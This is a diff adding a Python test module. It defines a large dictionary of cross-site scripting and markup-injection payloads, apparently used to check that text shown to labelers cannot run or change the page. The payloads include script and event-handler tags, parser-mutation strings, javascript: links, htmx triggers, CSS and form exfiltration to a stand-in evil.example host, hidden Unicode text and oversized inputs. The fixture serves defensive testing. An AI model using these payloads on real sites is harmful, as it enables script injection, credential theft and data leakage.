@@ -1,0 +1,125 @@
+"""What would a text do to the page if it could? Each of these is shown to a labeler, and none may do anything.
+
+The console of a page in which one of them succeeded says ATTUNE, a dialog opens, or somebody asks evil.example.
+"""
+
+# ruff: noqa: E501  a payload stays on its line
+
+ALERT = "alert('ATTUNE')"
+FETCH = "fetch('https://evil.example/stolen')"
+HOST = "https://evil.example"
+
+PAYLOADS = {
+    # Elements that run something
+    "script": f"<script>{ALERT}</script>",
+    "script from elsewhere": f"<script src={HOST}/x.js></script>",
+    "script of a module": f"<script type=module>import '{HOST}/x.js'</script>",
+    "script split by a slash": f"<script/x>{ALERT}</script/x>",
+    "script in capitals": f"<ScRiPt>{ALERT}</sCrIpT>",
+    "script nested in itself": f"<scr<script>ipt>{ALERT}</scr</script>ipt>",
+    "unclosed script": f"<script>{ALERT}",
+    "script in a data island": '<script id="rows" type="application/json">{"a": "</script><script>' + ALERT + '</script>"}',
+    "importmap": f'<script type="importmap">{{"imports": {{"a": "{HOST}/a.js"}}}}</script>',
+    "picture that fails": f"<img src=x onerror={ALERT}>",
+    "picture from elsewhere": f"<img src={HOST}/pixel.png srcset='{HOST}/2x.png 2x'>",
+    "svg that loads": f"<svg onload={ALERT}></svg>",
+    "svg with a script": f"<svg><script>{ALERT}</script></svg>",
+    "svg that animates a link": f"<svg><a><animate attributeName=href values=javascript:{ALERT} /><text>x</text></a></svg>",
+    "svg that uses another": f"<svg><use href='{HOST}/x.svg#x'/></svg>",
+    "details that open": f"<details open ontoggle={ALERT}>x</details>",
+    "field in focus": f"<input autofocus onfocus={ALERT}>",
+    "video without source": f"<video><source onerror={ALERT}></video><audio src={HOST}/a.mp3 autoplay>",
+    "marquee": f"<marquee onstart={ALERT}>x</marquee>",
+    "body that loads": f"<body onload={ALERT}><p onclick={ALERT}>x",
+    "frame": f"<iframe src=javascript:{ALERT}></iframe>",
+    "frame with a document": f'<iframe srcdoc="<script>parent.{ALERT}</script>"></iframe>',
+    "object and embed": f"<object data={HOST}/x.swf></object><embed src={HOST}/x.pdf>",
+    "template": f"<template shadowrootmode=open><script>{ALERT}</script></template>",
+    "portal of a dialog": f"<dialog open><form method=dialog><button autofocus>{ALERT}</button></form></dialog>",
+    # Mutations: what one parser closes, another opens
+    "mathml mutation": f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={ALERT}>'>",
+    "svg mutation": f"<svg></p><style><a id='</style><img src=x onerror={ALERT}>'>",
+    "noscript mutation": f"<noscript><p title='</noscript><img src=x onerror={ALERT}>'>",
+    "form mutation": f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={ALERT}>",
+    "annotation": f"<math><annotation-xml encoding='text/html'><img src=x onerror={ALERT}></annotation-xml></math>",
+    "comment": f"<!--><img src=x onerror={ALERT}>--> <!-- --!><img src=x onerror={ALERT}> -->",
+    "cdata": f"<![CDATA[<script>{ALERT}</script>]]><?xml-stylesheet href='{HOST}/x.xsl'?>",
+    "plaintext": "<plaintext>everything after is text",
+    "select": f"<select><option></select><img src=x onerror={ALERT}>",
+    # Ways out of where the text stands
+    "out of a script": f"</script><script>{ALERT}</script>",
+    "out of a textarea": f"</textarea></form><form action={HOST}><button autofocus>Submit</button>",
+    "out of a card": "</div></div></article></section></form></main></body></html><h1>Gone",
+    "out of a title": f"</title></head><body onload={ALERT}>",
+    "out of a style": f"</style><style>* {{ background: url({HOST}/x) }}</style>",
+    "out of an attribute": f"\" onmouseover=\"{ALERT}\" x=\" ' onfocus='{ALERT}' autofocus tabindex=1 '",
+    "out of a template's braces": "{% csrf_token %} {{ settings.SECRET_KEY }} {# x #}",
+    # Forms, navigation, styles
+    "form": f"<form action={HOST} method=post><input name=password><button>Sign in</button></form>",
+    "formaction": f"<button form=sheet-form formaction={HOST}/stolen type=submit>Submit</button>",
+    "field of the sheet": "<input form=sheet-form name=A-overall_quality value=7 type=hidden>",
+    "refresh": f"<meta http-equiv=refresh content='0;url={HOST}'>",
+    "base": f"<base href={HOST}/>",
+    "preload": f"<link rel=stylesheet href={HOST}/x.css><link rel=dns-prefetch href=//evil.example>",
+    "style": f"<style>@import '{HOST}/x.css'; .card {{ display: none }} input[value^=a] {{ background: url({HOST}/a) }}</style>",
+    "style in place": f"<div style='position:fixed;inset:0;background:url({HOST}/x)'>over everything</div>",
+    "clobbered ids": "<form id=sheet-form><input name=elements id=sheet></form><a id=attune name=attune><img name=cookie>",
+    "classes of the page": "<div class='card is-active' data-letter=A data-draft=/x><button class=primary data-move=up>A</button>",
+    "translated page": "<html lang=xx dir=rtl><body class=page hidden>",
+    # htmx
+    "htmx load": f"<div hx-get='{HOST}/x' hx-trigger=load></div><div data-hx-post=/skip/ data-hx-trigger=load></div>",
+    "htmx on": f"<div hx-on:load='{ALERT}' hx-on--after-settle=\"{ALERT}\" hx-trigger=\"load[{ALERT}]\"></div>",
+    "htmx swap": "<div id=sheet hx-swap-oob=true>gone</div><div hx-swap-oob='innerHTML:#main'>gone</div>",
+    "htmx inherit": "<div hx-boost=true hx-vals='js:{a: alert(1)}' hx-ext=x hx-headers='{}'><a href=/>x</a></div>",
+    # Links
+    "javascript links": f"[x](javascript:{ALERT}) [x](JaVaScRiPt:1) [x](java&#9;script:1) [x](&#106;avascript:1) [x](\x01javascript:1)",
+    "other schemes": "[x](vbscript:1) [x](data:text/html,<script>1</script>) [x](file:///etc/passwd) [x](blob:x) [x](attune:x)",
+    "link to the house": "[Sign in again](/accounts/logout/) [x](//evil.example) [x](\\\\evil.example) [x](?then=stop) [x](#card-A)",
+    "link with a title": f"[x]({HOST} \"\\\" onmouseover={ALERT} x=\\\"\") [x]({HOST} '\"><img src=x onerror={ALERT}>')",
+    "link with brackets": f"[x](<{HOST}/\" onclick={ALERT} \">) [x]({HOST}/'onclick='{ALERT})",
+    "link that says another": f"[https://bank.example]({HOST}) [<b>x</b>]({HOST}/%22%3E%3Cscript%3E)",
+    "autolinks": f"<javascript:{ALERT}> <{HOST}/\"onclick=1> <mailto:a@evil.example?body=\"><img> <a@evil.example>",
+    "link with a password": "[x](https://user:password@evil.example/) [x](https://еvil.example/) [x](http://[::1]/)",
+    "definitions": f"[x]: javascript:{ALERT}\n[y]: {HOST} \"><img src=x onerror={ALERT}>\"\n\n[x] [y] [z][x] ![y]",
+    "link in a link": f"[a [b]({HOST}/b) c]({HOST}/a) [![x]({HOST}/x.png)]({HOST})",
+    # Pictures
+    "picture": f"![x]({HOST}/x.png) ![x](javascript:{ALERT}) ![x](data:image/svg+xml,<svg onload={ALERT}>)",
+    "picture with a quote": f"![\" onerror=\"{ALERT}]({HOST}/x.png '\" onerror=\"{ALERT}') ![<script>{ALERT}</script>](https://e)",
+    # Code
+    "fence": f'```"><script>{ALERT}</script>\nx\n```',
+    "fence with an attribute": f'```python" onmouseover="{ALERT}\nx\n```',
+    "fence with classes": "```card is-active\nx\n``` \n```../../x\nx\n```",
+    "code with a page": f"```html\n</code></pre><script>{ALERT}</script><img src={HOST}/x>\n```\n\n`</code><script>1</script>`",
+    "console sequences": "```sh\n\x1b]8;;https://evil.example\x07x\x1b]8;;\x07 \x1b[2J\n```",
+    # Characters
+    "entities": f"&lt;script&gt;{ALERT}&lt;/script&gt; &#60;img src=x onerror={ALERT}&#62; &NewLine;&Tab;&colon;&#0;&#xD800;",
+    "no characters at all": "\u200b\u200c\u200d\ufeff\u2060\u00ad",
+    "bidirectional": "\u202eevil\u202c \u2066x\u2069 &#8238;gnp.exe \u200f",
+    "separators of lines": f"<scr\u2028ipt>{ALERT}</script>\u2029<img\x0bsrc=x\x0conerror={ALERT}>\x85x",
+    "controls": "\x01\x02\x07\x08\x0b\x0c\x1b\x7f\x80\x9b",
+    "wide brackets": f"＜script＞{ALERT}＜/script＞ ‹script› ʺ onclick=1 \u02ba",
+    "old encodings": f"+ADw-script+AD4-{ALERT}+ADw-/script+AD4- \xbcscript\xbe{ALERT}",
+    "tags that cannot be seen": "Say yes.\U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
+    "piles of marks": "H" + "\u0300\u0301\u0302\u0303\u0323\u0324" * 60 + "e" + "\u0489\u0353" * 80,
+    "right to left": "مرحبا <b onclick=1>بالعالم</b> שלום [x](javascript:1)",
+    # Mathematics
+    "formula that links": rf"$\href{{javascript:{ALERT}}}{{x}}$ $\url{{{HOST}}}$ \(\href{{{HOST}}}{{y}}\)",
+    "formula that defines": r"$\def\x{\x\x}\x$ $$\newcommand{\a}{\a\a}\a$$ \[\let\frac\x \require{html}\]",
+    "formula with markup": rf"$\text{{</mtext></math><img src=x onerror={ALERT}>}}$ $x<img src=x onerror={ALERT}>y$",
+    "formula with entities": rf"$\text{{&lt;img src=x onerror={ALERT}&gt;}} &#60;script&#62; x^2$",
+    "formula with styles": r"$\style{position:fixed}{x}\class{card}{y}\cssId{sheet}{z}$ $\color{red;background:url(//evil.example)}{x}$",
+    "formula with pictures": rf"$\includegraphics{{{HOST}/x.png}} x^2$ $$\rule{{9999em}}{{9999em}}$$ $\hspace{{9999em}}x$",
+    "formula within formulas": "$" + "{" * 300 + "x" + "}" * 300 + "$ $" + r"\frac{1}{" * 200 + "x" + "}" * 200 + "$",
+    # Quantity
+    "wide table": "|a" * 120 + "|\n" + "|-" * 120 + "|\n" + ("|" + "x" * 40) * 120 + "|\n",
+    "filled table": "|a" * 400 + "|\n" + "|-" * 400 + "|\n" + "a\n" * 400,
+    "table with markup": f"| a |\n|--|\n| <b onclick={ALERT}> |\n| [x](javascript:1) \\| `|` |",
+    "deep lists": "- " * 400 + "x\n\n" + "> " * 400 + "y\n\n" + "1. " * 200 + "z",
+    "deep brackets": "[" * 3_000 + "x" + "](" * 3_000,
+    "many stars": "*_" * 2_000 + "x" + "**__~~" * 500,
+    "one long word": "W" * 20_000,
+    "long addresses": "[x](https://evil.example/" + "a" * 1_900 + ") " + "<https://evil.example/" + "b" * 3_000 + ">",
+    "many headings": "# a\n###### b\n" * 100 + "a\n===\nb\n---\n",
+    "tall text": "x\n\n" * 800,
+    "only a definition": f"[x]: {HOST} 'y'",
+}  # fmt: skip
